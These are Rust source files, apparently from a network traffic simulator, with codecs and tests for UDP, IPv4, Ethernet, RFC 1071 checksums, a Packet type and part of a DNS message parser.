    pub fn encode_with_payload(&self, src: Ipv4Addr, dst: Ipv4Addr, payload: &[u8]) -> Vec<u8> {
        let total = HEADER_LEN + payload.len();
        let mut out = Vec::with_capacity(total);
        out.extend_from_slice(&self.src_port.to_be_bytes());
        out.extend_from_slice(&self.dst_port.to_be_bytes());
        out.extend_from_slice(&(total as u16).to_be_bytes());
        out.extend_from_slice(&[0, 0]); // checksum placeholder
        out.extend_from_slice(payload);
        let mut c = Checksum::new();
        c.push_pseudo_header(src, dst, 17, total as u16);
        c.push(&out);
        let mut sum = c.finish();
        if sum == 0 {
            sum = 0xffff; // RFC 768: transmitted 0 means "no checksum"
        }
        out[6..8].copy_from_slice(&sum.to_be_bytes());
        out
    }

    /// Parse a UDP datagram, verifying length and checksum, returning the
    /// header plus payload slice.
    pub fn decode(src: Ipv4Addr, dst: Ipv4Addr, data: &[u8]) -> Result<(Self, &[u8]), WireError> {
        if data.len() < HEADER_LEN {
            return Err(WireError::Truncated {
                layer: "udp",
                needed: HEADER_LEN,
                got: data.len(),
            });
        }
        let len = usize::from(u16::from_be_bytes([data[4], data[5]]));
        if len < HEADER_LEN || len > data.len() {
            return Err(WireError::LengthMismatch {
                layer: "udp",
                claimed: len,
                got: data.len(),
            });
        }
        let cksum = u16::from_be_bytes([data[6], data[7]]);
        if cksum != 0 {
            let mut c = Checksum::new();
            c.push_pseudo_header(src, dst, 17, len as u16);
            // Guarded: HEADER_LEN <= len <= data.len() above. lint: index-ok
            c.push(&data[..len]);
            if c.finish() != 0 {
                return Err(WireError::BadChecksum { layer: "udp" });
            }
        }
        let hdr = UdpHeader {
            src_port: u16::from_be_bytes([data[0], data[1]]),
            dst_port: u16::from_be_bytes([data[2], data[3]]),
        };
        // Guarded: HEADER_LEN <= len <= data.len() above. lint: index-ok
        Ok((hdr, &data[HEADER_LEN..len]))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const A: Ipv4Addr = Ipv4Addr::new(10, 1, 2, 3);
    const B: Ipv4Addr = Ipv4Addr::new(8, 8, 8, 8);

    #[test]
    fn roundtrip() {
        let h = UdpHeader {
            src_port: 5353,
            dst_port: 53,
        };
        let bytes = h.encode_with_payload(A, B, b"query");
        let (g, payload) = UdpHeader::decode(A, B, &bytes).unwrap();
        assert_eq!(g, h);
        assert_eq!(payload, b"query");
    }

    #[test]
    fn zero_checksum_skips_verification() {
        let h = UdpHeader {
            src_port: 1,
            dst_port: 2,
        };
        let mut bytes = h.encode_with_payload(A, B, b"x");
        bytes[6] = 0;
        bytes[7] = 0;
        // With checksum zeroed, decode must accept regardless of content.
        assert!(UdpHeader::decode(A, B, &bytes).is_ok());
    }

    #[test]
    fn corrupt_detected() {
        let h = UdpHeader {
            src_port: 1,
            dst_port: 2,
        };
        let mut bytes = h.encode_with_payload(A, B, b"abcd");
        bytes[9] ^= 1;
        assert_eq!(
            UdpHeader::decode(A, B, &bytes).unwrap_err(),
            WireError::BadChecksum { layer: "udp" }
        );
    }

    #[test]
    fn length_field_honoured() {
        let h = UdpHeader {
            src_port: 7,
            dst_port: 7,
        };
        let mut bytes = h.encode_with_payload(A, B, b"abc");
        bytes.extend_from_slice(b"trailing-ethernet-pad");
        let (_, payload) = UdpHeader::decode(A, B, &bytes).unwrap();
        assert_eq!(payload, b"abc");
    }

    #[test]
    fn claimed_length_too_large_rejected() {
        let h = UdpHeader {
            src_port: 7,
            dst_port: 7,
        };
        let mut bytes = h.encode_with_payload(A, B, b"abc");
        bytes[4..6].copy_from_slice(&100u16.to_be_bytes());
        assert!(matches!(
            UdpHeader::decode(A, B, &bytes).unwrap_err(),
            WireError::LengthMismatch { layer: "udp", .. }
        ));
    }
}
