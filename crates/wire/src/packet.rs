//! Logical packets: the unit of traffic inside the simulator.
//!
//! A [`Packet`] is the parsed, structured view of one IPv4 datagram. The
//! simulator moves `Packet`s between hosts; the capture layer serializes
//! them to full Ethernet frames for pcap files, and the analysis pipeline
//! parses those bytes back into `Packet`s. Round-tripping through bytes is
//! exercised heavily in tests so that "what the analyst sees in the pcap"
//! is guaranteed to equal "what the simulator sent".

use std::fmt;
use std::net::Ipv4Addr;

use crate::error::WireError;
use crate::ethernet::{EtherType, EthernetFrame};
use crate::icmp::IcmpMessage;
use crate::ipv4::{IpProtocol, Ipv4Header};
use crate::mac::MacAddr;
use crate::tcp::{TcpFlags, TcpHeader};
use crate::udp::UdpHeader;

/// The transport-layer content of a packet.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Transport {
    /// A TCP segment.
    Tcp {
        /// TCP header.
        header: TcpHeader,
        /// Segment payload.
        payload: Vec<u8>,
    },
    /// A UDP datagram.
    Udp {
        /// UDP header.
        header: UdpHeader,
        /// Datagram payload.
        payload: Vec<u8>,
    },
    /// An ICMP message.
    Icmp(IcmpMessage),
}

impl Transport {
    /// Application payload bytes (empty for ICMP control messages).
    pub fn payload(&self) -> &[u8] {
        match self {
            Transport::Tcp { payload, .. } | Transport::Udp { payload, .. } => payload,
            Transport::Icmp(_) => &[],
        }
    }

    /// Source port, if the transport has ports.
    pub fn src_port(&self) -> Option<u16> {
        match self {
            Transport::Tcp { header, .. } => Some(header.src_port),
            Transport::Udp { header, .. } => Some(header.src_port),
            Transport::Icmp(_) => None,
        }
    }

    /// Destination port, if the transport has ports.
    pub fn dst_port(&self) -> Option<u16> {
        match self {
            Transport::Tcp { header, .. } => Some(header.dst_port),
            Transport::Udp { header, .. } => Some(header.dst_port),
            Transport::Icmp(_) => None,
        }
    }

    /// IP protocol number for this transport.
    pub fn protocol(&self) -> IpProtocol {
        match self {
            Transport::Tcp { .. } => IpProtocol::Tcp,
            Transport::Udp { .. } => IpProtocol::Udp,
            Transport::Icmp(_) => IpProtocol::Icmp,
        }
    }
}

/// One IPv4 packet in flight.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Packet {
    /// Source IP address.
    pub src: Ipv4Addr,
    /// Destination IP address.
    pub dst: Ipv4Addr,
    /// TTL (64 on creation, decremented by routers).
    pub ttl: u8,
    /// Transport content.
    pub transport: Transport,
}

impl Packet {
    /// Build a TCP packet.
    #[allow(clippy::too_many_arguments)] // mirrors the TCP header fields
    pub fn tcp(
        src: Ipv4Addr,
        src_port: u16,
        dst: Ipv4Addr,
        dst_port: u16,
        seq: u32,
        ack: u32,
        flags: TcpFlags,
        payload: Vec<u8>,
    ) -> Self {
        Packet {
            src,
            dst,
            ttl: 64,
            transport: Transport::Tcp {
                header: TcpHeader {
                    src_port,
                    dst_port,
                    seq,
                    ack,
                    flags,
                    window: 65535,
                },
                payload,
            },
        }
    }

    /// Build a UDP packet.
    pub fn udp(
        src: Ipv4Addr,
        src_port: u16,
        dst: Ipv4Addr,
        dst_port: u16,
        payload: Vec<u8>,
    ) -> Self {
        Packet {
            src,
            dst,
            ttl: 64,
            transport: Transport::Udp {
                header: UdpHeader { src_port, dst_port },
                payload,
            },
        }
    }

    /// Build an ICMP packet.
    pub fn icmp(src: Ipv4Addr, dst: Ipv4Addr, message: IcmpMessage) -> Self {
        Packet {
            src,
            dst,
            ttl: 64,
            transport: Transport::Icmp(message),
        }
    }

    /// TCP flags, if this is a TCP packet.
    pub fn tcp_flags(&self) -> Option<TcpFlags> {
        match &self.transport {
            Transport::Tcp { header, .. } => Some(header.flags),
            _ => None,
        }
    }

    /// Serialize to a raw IPv4 datagram (header + transport bytes).
    pub fn encode_ipv4(&self) -> Vec<u8> {
        let transport_bytes = match &self.transport {
            Transport::Tcp { header, payload } => {
                header.encode_with_payload(self.src, self.dst, payload)
            }
            Transport::Udp { header, payload } => {
                header.encode_with_payload(self.src, self.dst, payload)
            }
            Transport::Icmp(msg) => msg.encode(),
        };
        let mut hdr = Ipv4Header::new(
            self.src,
            self.dst,
            self.transport.protocol(),
            transport_bytes.len(),
        );
        hdr.ttl = self.ttl;
        hdr.encode_with_payload(&transport_bytes)
    }

    /// Serialize to a complete Ethernet frame (the form stored in pcaps).
    /// MAC addresses are synthesized deterministically from the IPs so
    /// captures are stable across runs.
    pub fn encode_frame(&self) -> Vec<u8> {
        let src_mac = MacAddr::from_host_id(u32::from(self.src));
        let dst_mac = MacAddr::from_host_id(u32::from(self.dst));
        EthernetFrame::ipv4(dst_mac, src_mac, self.encode_ipv4()).encode()
    }

    /// Parse from a raw IPv4 datagram.
    pub fn decode_ipv4(data: &[u8]) -> Result<Self, WireError> {
        let (hdr, payload) = Ipv4Header::decode(data)?;
        let transport = match hdr.protocol {
            IpProtocol::Tcp => {
                let (th, tp) = TcpHeader::decode(hdr.src, hdr.dst, payload)?;
                Transport::Tcp {
                    header: th,
                    payload: tp.to_vec(),
                }
            }
            IpProtocol::Udp => {
                let (uh, up) = UdpHeader::decode(hdr.src, hdr.dst, payload)?;
                Transport::Udp {
                    header: uh,
                    payload: up.to_vec(),
                }
            }
            IpProtocol::Icmp => Transport::Icmp(IcmpMessage::decode(payload)?),
            IpProtocol::Other(v) => {
                return Err(WireError::Unsupported {
                    layer: "ipv4",
                    what: "protocol",
                    value: u64::from(v),
                })
            }
        };
        Ok(Packet {
            src: hdr.src,
            dst: hdr.dst,
            ttl: hdr.ttl,
            transport,
        })
    }

    /// Parse from a complete Ethernet frame.
    pub fn decode_frame(data: &[u8]) -> Result<Self, WireError> {
        let frame = EthernetFrame::decode(data)?;
        match frame.ethertype {
            EtherType::Ipv4 => Self::decode_ipv4(&frame.payload),
            other => Err(WireError::Unsupported {
                layer: "ethernet",
                what: "ethertype",
                value: u64::from(u16::from(other)),
            }),
        }
    }

    /// A compact one-line rendering, used by traffic logs in examples.
    pub fn summary(&self) -> String {
        match &self.transport {
            Transport::Tcp { header, payload } => format!(
                "TCP {}:{} > {}:{} [{}] len={}",
                self.src,
                header.src_port,
                self.dst,
                header.dst_port,
                header.flags,
                payload.len()
            ),
            Transport::Udp { header, payload } => format!(
                "UDP {}:{} > {}:{} len={}",
                self.src,
                header.src_port,
                self.dst,
                header.dst_port,
                payload.len()
            ),
            Transport::Icmp(msg) => {
                format!("ICMP {} > {} type={}", self.src, self.dst, msg.icmp_type())
            }
        }
    }
}

impl fmt::Display for Packet {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.summary())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const A: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 5);
    const B: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 80);

    #[test]
    fn tcp_frame_roundtrip() {
        let p = Packet::tcp(A, 40000, B, 23, 100, 0, TcpFlags::SYN, vec![]);
        let bytes = p.encode_frame();
        let q = Packet::decode_frame(&bytes).unwrap();
        assert_eq!(p, q);
    }

    #[test]
    fn udp_frame_roundtrip_with_payload() {
        let p = Packet::udp(A, 1234, B, 80, vec![0u8; 512]);
        let q = Packet::decode_frame(&p.encode_frame()).unwrap();
        assert_eq!(p, q);
        assert_eq!(q.transport.payload().len(), 512);
    }

    #[test]
    fn icmp_frame_roundtrip() {
        let p = Packet::icmp(
            A,
            B,
            IcmpMessage::DestinationUnreachable {
                code: 3,
                payload: vec![1, 2, 3, 4],
            },
        );
        let q = Packet::decode_frame(&p.encode_frame()).unwrap();
        assert_eq!(p, q);
    }

    #[test]
    fn summary_contains_endpoints() {
        let p = Packet::udp(A, 5, B, 6, vec![7]);
        let s = p.summary();
        assert!(s.contains("192.168.0.5:5"));
        assert!(s.contains("203.0.113.80:6"));
    }

    #[test]
    fn ports_and_protocol_accessors() {
        let p = Packet::tcp(A, 1, B, 2, 0, 0, TcpFlags::SYN, vec![]);
        assert_eq!(p.transport.src_port(), Some(1));
        assert_eq!(p.transport.dst_port(), Some(2));
        assert_eq!(p.transport.protocol(), IpProtocol::Tcp);
        let i = Packet::icmp(
            A,
            B,
            IcmpMessage::EchoRequest {
                ident: 0,
                seq: 0,
                payload: vec![],
            },
        );
        assert_eq!(i.transport.src_port(), None);
    }

    #[test]
    fn ttl_survives_roundtrip() {
        let mut p = Packet::udp(A, 1, B, 2, vec![]);
        p.ttl = 13;
        let q = Packet::decode_ipv4(&p.encode_ipv4()).unwrap();
        assert_eq!(q.ttl, 13);
    }
}
