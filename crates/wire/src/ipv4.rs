//! IPv4 header encoding and decoding.
//!
//! Options are not supported (silently absent on encode, rejected on
//! decode only if IHL describes bytes the buffer lacks). Fragmentation is
//! not generated; the DF bit is always set, matching typical IoT traffic.

use std::net::Ipv4Addr;

use crate::checksum::{self, Checksum};
use crate::error::WireError;

/// Minimum (and, without options, exact) IPv4 header length.
pub const HEADER_LEN: usize = 20;

/// IP protocol numbers the simulator speaks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum IpProtocol {
    /// ICMP (1).
    Icmp,
    /// TCP (6).
    Tcp,
    /// UDP (17).
    Udp,
    /// Anything else, preserved verbatim.
    Other(u8),
}

impl From<u8> for IpProtocol {
    fn from(v: u8) -> Self {
        match v {
            1 => IpProtocol::Icmp,
            6 => IpProtocol::Tcp,
            17 => IpProtocol::Udp,
            other => IpProtocol::Other(other),
        }
    }
}

impl From<IpProtocol> for u8 {
    fn from(p: IpProtocol) -> u8 {
        match p {
            IpProtocol::Icmp => 1,
            IpProtocol::Tcp => 6,
            IpProtocol::Udp => 17,
            IpProtocol::Other(v) => v,
        }
    }
}

/// A decoded IPv4 header (no options).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Ipv4Header {
    /// Source address.
    pub src: Ipv4Addr,
    /// Destination address.
    pub dst: Ipv4Addr,
    /// Payload protocol.
    pub protocol: IpProtocol,
    /// Time to live.
    pub ttl: u8,
    /// Identification field (used by some DDoS fingerprints).
    pub ident: u16,
    /// Total length of header + payload, as claimed on the wire.
    pub total_len: u16,
}

impl Ipv4Header {
    /// Build a header for a payload of the given length.
    pub fn new(src: Ipv4Addr, dst: Ipv4Addr, protocol: IpProtocol, payload_len: usize) -> Self {
        Ipv4Header {
            src,
            dst,
            protocol,
            ttl: 64,
            ident: 0,
            total_len: (HEADER_LEN + payload_len) as u16,
        }
    }

    /// Serialize header followed by `payload`, computing the header checksum.
    pub fn encode_with_payload(&self, payload: &[u8]) -> Vec<u8> {
        let total = HEADER_LEN + payload.len();
        let mut out = Vec::with_capacity(total);
        out.push(0x45); // version 4, IHL 5
        out.push(0); // DSCP/ECN
        out.extend_from_slice(&(total as u16).to_be_bytes());
        out.extend_from_slice(&self.ident.to_be_bytes());
        out.extend_from_slice(&0x4000u16.to_be_bytes()); // flags: DF
        out.push(self.ttl);
        out.push(self.protocol.into());
        out.extend_from_slice(&[0, 0]); // checksum placeholder
        out.extend_from_slice(&self.src.octets());
        out.extend_from_slice(&self.dst.octets());
        // Encode path: `out` was just built HEADER_LEN long. lint: index-ok
        let c = checksum::checksum(&out[..HEADER_LEN]);
        out[10..12].copy_from_slice(&c.to_be_bytes());
        out.extend_from_slice(payload);
        out
    }

    /// Parse a header and return it with the payload slice offset.
    ///
    /// Verifies the header checksum and that the buffer holds at least
    /// `total_len` bytes.
    pub fn decode(data: &[u8]) -> Result<(Self, &[u8]), WireError> {
        if data.len() < HEADER_LEN {
            return Err(WireError::Truncated {
                layer: "ipv4",
                needed: HEADER_LEN,
                got: data.len(),
            });
        }
        let version = data[0] >> 4;
        if version != 4 {
            return Err(WireError::Unsupported {
                layer: "ipv4",
                what: "version",
                value: u64::from(version),
            });
        }
        let ihl = usize::from(data[0] & 0x0f) * 4;
        if ihl < HEADER_LEN {
            return Err(WireError::Malformed {
                layer: "ipv4",
                what: "IHL below minimum",
            });
        }
        if data.len() < ihl {
            return Err(WireError::Truncated {
                layer: "ipv4",
                needed: ihl,
                got: data.len(),
            });
        }
        // Guarded: len >= ihl checked just above. lint: index-ok
        if !checksum::verify(&data[..ihl]) {
            return Err(WireError::BadChecksum { layer: "ipv4" });
        }
        let total_len = u16::from_be_bytes([data[2], data[3]]);
        let tl = usize::from(total_len);
        if tl < ihl || tl > data.len() {
            return Err(WireError::LengthMismatch {
                layer: "ipv4",
                claimed: tl,
                got: data.len(),
            });
        }
        let hdr = Ipv4Header {
            src: Ipv4Addr::new(data[12], data[13], data[14], data[15]),
            dst: Ipv4Addr::new(data[16], data[17], data[18], data[19]),
            protocol: data[9].into(),
            ttl: data[8],
            ident: u16::from_be_bytes([data[4], data[5]]),
            total_len,
        };
        // Guarded: ihl <= tl <= len established above. lint: index-ok
        Ok((hdr, &data[ihl..tl]))
    }

    /// Seed a pseudo-header checksum accumulator for this packet's
    /// transport payload of `len` bytes.
    pub fn pseudo_header_checksum(&self, len: u16) -> Checksum {
        let mut c = Checksum::new();
        c.push_pseudo_header(self.src, self.dst, self.protocol.into(), len);
        c
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hdr() -> Ipv4Header {
        Ipv4Header::new(
            Ipv4Addr::new(192, 168, 1, 10),
            Ipv4Addr::new(10, 0, 0, 1),
            IpProtocol::Tcp,
            4,
        )
    }

    #[test]
    fn roundtrip() {
        let h = hdr();
        let bytes = h.encode_with_payload(&[9, 8, 7, 6]);
        let (g, payload) = Ipv4Header::decode(&bytes).unwrap();
        assert_eq!(g.src, h.src);
        assert_eq!(g.dst, h.dst);
        assert_eq!(g.protocol, IpProtocol::Tcp);
        assert_eq!(g.ttl, 64);
        assert_eq!(payload, &[9, 8, 7, 6]);
    }

    #[test]
    fn checksum_is_verified() {
        let mut bytes = hdr().encode_with_payload(&[0; 4]);
        bytes[8] = 1; // corrupt TTL without fixing checksum
        assert_eq!(
            Ipv4Header::decode(&bytes).unwrap_err(),
            WireError::BadChecksum { layer: "ipv4" }
        );
    }

    #[test]
    fn version_must_be_4() {
        let mut bytes = hdr().encode_with_payload(&[]);
        bytes[0] = 0x65;
        assert!(matches!(
            Ipv4Header::decode(&bytes).unwrap_err(),
            WireError::Unsupported {
                what: "version",
                ..
            }
        ));
    }

    #[test]
    fn total_len_must_fit() {
        let h = hdr();
        let mut bytes = h.encode_with_payload(&[0; 4]);
        bytes.truncate(21); // keep header + 1 byte, total_len still claims 24
        assert!(matches!(
            Ipv4Header::decode(&bytes).unwrap_err(),
            WireError::LengthMismatch { layer: "ipv4", .. }
        ));
    }

    #[test]
    fn trailing_bytes_beyond_total_len_ignored() {
        let h = hdr();
        let mut bytes = h.encode_with_payload(&[1, 2, 3, 4]);
        bytes.extend_from_slice(&[0xEE; 10]); // ethernet padding
        let (_, payload) = Ipv4Header::decode(&bytes).unwrap();
        assert_eq!(payload, &[1, 2, 3, 4]);
    }

    #[test]
    fn protocol_mapping() {
        assert_eq!(u8::from(IpProtocol::Udp), 17);
        assert_eq!(IpProtocol::from(1), IpProtocol::Icmp);
        assert_eq!(IpProtocol::from(89), IpProtocol::Other(89));
    }
}
