//! RFC 1071 Internet checksum, used by IPv4, ICMP, TCP and UDP.

use std::net::Ipv4Addr;

/// Incremental ones-complement sum over 16-bit words.
///
/// Use [`Checksum::push`] for each region covered by the checksum, then
/// [`Checksum::finish`] to fold and complement. Regions of odd length are
/// padded with a trailing zero byte, per RFC 1071.
#[derive(Debug, Default, Clone, Copy)]
pub struct Checksum {
    sum: u32,
}

impl Checksum {
    /// Create an empty accumulator.
    pub fn new() -> Self {
        Self::default()
    }

    /// Accumulate a byte region. Odd-length regions are zero-padded.
    pub fn push(&mut self, data: &[u8]) {
        let mut chunks = data.chunks_exact(2);
        for chunk in &mut chunks {
            self.sum += u32::from(u16::from_be_bytes([chunk[0], chunk[1]]));
        }
        if let [last] = chunks.remainder() {
            self.sum += u32::from(u16::from_be_bytes([*last, 0]));
        }
    }

    /// Accumulate a single big-endian 16-bit word.
    pub fn push_u16(&mut self, word: u16) {
        self.sum += u32::from(word);
    }

    /// Accumulate the standard TCP/UDP pseudo-header for IPv4.
    pub fn push_pseudo_header(&mut self, src: Ipv4Addr, dst: Ipv4Addr, proto: u8, len: u16) {
        self.push(&src.octets());
        self.push(&dst.octets());
        self.push_u16(u16::from(proto));
        self.push_u16(len);
    }

    /// Fold carries and return the ones-complement checksum.
    pub fn finish(self) -> u16 {
        let mut sum = self.sum;
        while sum >> 16 != 0 {
            sum = (sum & 0xffff) + (sum >> 16);
        }
        !(sum as u16)
    }
}

/// One-shot checksum of a single region.
pub fn checksum(data: &[u8]) -> u16 {
    let mut c = Checksum::new();
    c.push(data);
    c.finish()
}

/// Verify a region that *includes* its checksum field: the folded sum must
/// come out as zero (i.e. `finish()` returns 0).
pub fn verify(data: &[u8]) -> bool {
    checksum(data) == 0
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The classic worked example from RFC 1071 §3.
    #[test]
    fn rfc1071_example() {
        let data = [0x00u8, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7];
        // Sum = 0x0001 + 0xf203 + 0xf4f5 + 0xf6f7 = 0x2ddf0 -> fold 0xddf2 -> !0xddf2
        assert_eq!(checksum(&data), !0xddf2);
    }

    #[test]
    fn odd_length_pads_with_zero() {
        assert_eq!(checksum(&[0xab]), !0xab00);
        assert_eq!(checksum(&[0xab, 0x00]), !0xab00);
    }

    #[test]
    fn empty_region_checksums_to_ffff() {
        assert_eq!(checksum(&[]), 0xffff);
    }

    #[test]
    fn verify_roundtrip() {
        // Build a fake header with an embedded checksum at bytes 2..4.
        let mut hdr = vec![0x45, 0x00, 0x00, 0x00, 0x12, 0x34, 0xab, 0xcd];
        let c = checksum(&hdr);
        hdr[2..4].copy_from_slice(&c.to_be_bytes());
        assert!(verify(&hdr));
        hdr[5] ^= 0xff;
        assert!(!verify(&hdr));
    }

    #[test]
    fn pseudo_header_matches_manual_sum() {
        let mut a = Checksum::new();
        a.push_pseudo_header(
            Ipv4Addr::new(10, 0, 0, 1),
            Ipv4Addr::new(10, 0, 0, 2),
            6,
            20,
        );
        let mut b = Checksum::new();
        b.push(&[10, 0, 0, 1, 10, 0, 0, 2, 0, 6, 0, 20]);
        assert_eq!(a.finish(), b.finish());
    }

    #[test]
    fn incremental_equals_oneshot() {
        let data: Vec<u8> = (0u16..301).map(|i| (i % 251) as u8).collect();
        let inc = Checksum::new();
        for chunk in data.chunks(7) {
            // push() must only be chunked on even boundaries; emulate by
            // re-pushing whole even prefix. Instead verify against even splits.
            let _ = chunk;
        }
        let mut even = Checksum::new();
        even.push(&data[..150]);
        even.push(&data[150..]);
        assert_eq!(even.finish(), checksum(&data));
        let _ = inc;
    }
}
