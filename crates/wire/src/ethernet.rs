//! Ethernet II framing.

use crate::error::WireError;
use crate::mac::MacAddr;

/// Length of an Ethernet II header: dst(6) + src(6) + ethertype(2).
pub const HEADER_LEN: usize = 14;

/// The EtherType field of an Ethernet II frame.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum EtherType {
    /// IPv4 (0x0800) — the only network protocol the simulator routes.
    Ipv4,
    /// ARP (0x0806) — parsed but not generated; present for pcap fidelity.
    Arp,
    /// Any other EtherType, preserved verbatim.
    Other(u16),
}

impl From<u16> for EtherType {
    fn from(v: u16) -> Self {
        match v {
            0x0800 => EtherType::Ipv4,
            0x0806 => EtherType::Arp,
            other => EtherType::Other(other),
        }
    }
}

impl From<EtherType> for u16 {
    fn from(t: EtherType) -> u16 {
        match t {
            EtherType::Ipv4 => 0x0800,
            EtherType::Arp => 0x0806,
            EtherType::Other(v) => v,
        }
    }
}

/// A decoded Ethernet II frame: header fields plus owned payload bytes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EthernetFrame {
    /// Destination MAC address.
    pub dst: MacAddr,
    /// Source MAC address.
    pub src: MacAddr,
    /// Protocol of the payload.
    pub ethertype: EtherType,
    /// Payload bytes (an IPv4 packet when `ethertype == Ipv4`).
    pub payload: Vec<u8>,
}

impl EthernetFrame {
    /// Build an IPv4 frame.
    pub fn ipv4(dst: MacAddr, src: MacAddr, payload: Vec<u8>) -> Self {
        EthernetFrame {
            dst,
            src,
            ethertype: EtherType::Ipv4,
            payload,
        }
    }

    /// Serialize to wire bytes.
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(HEADER_LEN + self.payload.len());
        out.extend_from_slice(&self.dst.0);
        out.extend_from_slice(&self.src.0);
        out.extend_from_slice(&u16::from(self.ethertype).to_be_bytes());
        out.extend_from_slice(&self.payload);
        out
    }

    /// Parse from wire bytes.
    pub fn decode(data: &[u8]) -> Result<Self, WireError> {
        if data.len() < HEADER_LEN {
            return Err(WireError::Truncated {
                layer: "ethernet",
                needed: HEADER_LEN,
                got: data.len(),
            });
        }
        let mut dst = [0u8; 6];
        let mut src = [0u8; 6];
        dst.copy_from_slice(&data[0..6]);
        src.copy_from_slice(&data[6..12]);
        let ethertype = u16::from_be_bytes([data[12], data[13]]).into();
        Ok(EthernetFrame {
            dst: MacAddr(dst),
            src: MacAddr(src),
            ethertype,
            // Guarded: len >= HEADER_LEN checked on entry. lint: index-ok
            payload: data[HEADER_LEN..].to_vec(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip() {
        let f = EthernetFrame::ipv4(
            MacAddr::from_host_id(1),
            MacAddr::from_host_id(2),
            vec![1, 2, 3, 4],
        );
        let bytes = f.encode();
        assert_eq!(bytes.len(), HEADER_LEN + 4);
        let g = EthernetFrame::decode(&bytes).unwrap();
        assert_eq!(f, g);
    }

    #[test]
    fn truncated_header_rejected() {
        let err = EthernetFrame::decode(&[0u8; 13]).unwrap_err();
        assert!(matches!(
            err,
            WireError::Truncated {
                layer: "ethernet",
                ..
            }
        ));
    }

    #[test]
    fn ethertype_mapping() {
        assert_eq!(u16::from(EtherType::Ipv4), 0x0800);
        assert_eq!(EtherType::from(0x0806), EtherType::Arp);
        assert_eq!(EtherType::from(0x86dd), EtherType::Other(0x86dd));
        assert_eq!(u16::from(EtherType::Other(0x1234)), 0x1234);
    }

    #[test]
    fn empty_payload_is_fine() {
        let f = EthernetFrame::ipv4(MacAddr::ZERO, MacAddr::ZERO, vec![]);
        let g = EthernetFrame::decode(&f.encode()).unwrap();
        assert!(g.payload.is_empty());
    }
}
