//! A small DNS message codec.
//!
//! Supports exactly what the simulation needs: A-record queries and
//! responses (including NXDOMAIN), with standard name compression *not*
//! emitted but tolerated on decode via pointer following. This is the
//! format spoken by the simulated resolver, by InetSim-style DNS faking in
//! the sandbox, and parsed back by the pipeline when attributing DNS-based
//! C2 addresses.

use std::fmt;
use std::net::Ipv4Addr;

use crate::error::WireError;

/// Maximum label-pointer indirections followed before declaring a loop.
const MAX_POINTER_HOPS: usize = 16;

/// DNS response code.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Rcode {
    /// No error.
    NoError,
    /// Name does not exist.
    NxDomain,
    /// Server failure.
    ServFail,
}

impl Rcode {
    fn to_bits(self) -> u16 {
        match self {
            Rcode::NoError => 0,
            Rcode::ServFail => 2,
            Rcode::NxDomain => 3,
        }
    }

    fn from_bits(bits: u16) -> Result<Self, WireError> {
        match bits {
            0 => Ok(Rcode::NoError),
            2 => Ok(Rcode::ServFail),
            3 => Ok(Rcode::NxDomain),
            v => Err(WireError::Unsupported {
                layer: "dns",
                what: "rcode",
                value: u64::from(v),
            }),
        }
    }
}

/// A fully-qualified domain name, stored lowercase without trailing dot.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct DomainName(String);

impl DomainName {
    /// Parse from a dotted string. Labels must be 1..=63 bytes, total <= 253.
    pub fn new(name: &str) -> Result<Self, WireError> {
        let name = name.trim_end_matches('.').to_ascii_lowercase();
        if name.is_empty() || name.len() > 253 {
            return Err(WireError::Malformed {
                layer: "dns",
                what: "name length",
            });
        }
        for label in name.split('.') {
            if label.is_empty() || label.len() > 63 {
                return Err(WireError::Malformed {
                    layer: "dns",
                    what: "label length",
                });
            }
        }
        Ok(DomainName(name))
    }

    /// The dotted-string form.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    fn encode_into(&self, out: &mut Vec<u8>) {
        for label in self.0.split('.') {
            out.push(label.len() as u8);
            out.extend_from_slice(label.as_bytes());
        }
        out.push(0);
    }

    /// Decode a (possibly compressed) name starting at `pos` within `msg`.
    /// Returns the name and the offset just past the name's first
    /// occurrence (i.e. where parsing continues).
    fn decode_from(msg: &[u8], pos: usize) -> Result<(Self, usize), WireError> {
        let mut labels: Vec<String> = Vec::new();
        let mut cursor = pos;
        let mut after: Option<usize> = None;
        let mut hops = 0usize;
        loop {
            let len = *msg.get(cursor).ok_or(WireError::Truncated {
                layer: "dns",
                needed: cursor + 1,
                got: msg.len(),
            })?;
            if len & 0xc0 == 0xc0 {
                let lo = *msg.get(cursor + 1).ok_or(WireError::Truncated {
                    layer: "dns",
                    needed: cursor + 2,
                    got: msg.len(),
                })?;
                if after.is_none() {
                    after = Some(cursor + 2);
                }
                cursor = usize::from(len & 0x3f) << 8 | usize::from(lo);
                hops += 1;
                if hops > MAX_POINTER_HOPS {
                    return Err(WireError::Malformed {
                        layer: "dns",
                        what: "compression pointer loop",
                    });
                }
                continue;
            }
            if len == 0 {
                if after.is_none() {
                    after = Some(cursor + 1);
                }
                break;
            }
            let len = usize::from(len);
            let start = cursor + 1;
            let end = start + len;
            let label = msg.get(start..end).ok_or(WireError::Truncated {
                layer: "dns",
                needed: end,
                got: msg.len(),
            })?;
            let label = std::str::from_utf8(label)
                .map_err(|_| WireError::Malformed {
                    layer: "dns",
                    what: "non-ascii label",
                })?
                .to_ascii_lowercase();
            labels.push(label);
            cursor = end;
        }
        if labels.is_empty() {
            return Err(WireError::Malformed {
                layer: "dns",
                what: "empty name",
            });
        }
        // `after` is always set by the branch that exits the loop, but a
        // parser never panics on its input — surface a typed error.
        let after = after.ok_or(WireError::Malformed {
            layer: "dns",
            what: "unterminated name",
        })?;
        Ok((DomainName(labels.join(".")), after))
    }
}

